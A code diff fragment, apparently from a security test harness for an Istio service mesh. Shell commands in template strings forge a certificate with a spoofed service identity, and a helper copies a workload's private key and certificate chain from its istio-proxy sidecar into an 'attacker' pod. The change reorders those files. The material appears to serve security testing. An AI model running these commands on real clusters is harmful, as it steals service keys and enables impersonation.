@@ -32,8 +32,9 @@ echo subjectAltName=critical,URI:${identity('frontend')} > forged.ext
 openssl x509 -req -in forged.csr -CA root.pem -CAkey root.key -CAcreateserial -days 1 -extfile forged.ext -out forged.crt
 cat forged.crt forged.key > forged.pem`;
 /** Brings certificate and key of a workload from its proxy into the attacker's container; nothing of them is printed. */
+// The key first: the chain of an own authority may end without a line break.
 const copyKey = (workload: string, file: string) => `set -o pipefail
-kubectl exec -n ${namespace} ${workload} -c istio-proxy -- cat /etc/istio/proxy/cert-chain.pem /etc/istio/proxy/key.pem |
+kubectl exec -n ${namespace} ${workload} -c istio-proxy -- cat /etc/istio/proxy/key.pem /etc/istio/proxy/cert-chain.pem |
   kubectl exec -i -n ${namespace} pod/attacker -c attacker -- sh -c 'cat > /tmp/${file}'`;
 /** Whom a copied certificate names, how long it lasts, its hash, and whether the key belongs to it. */
 const describe = (file: string) => [
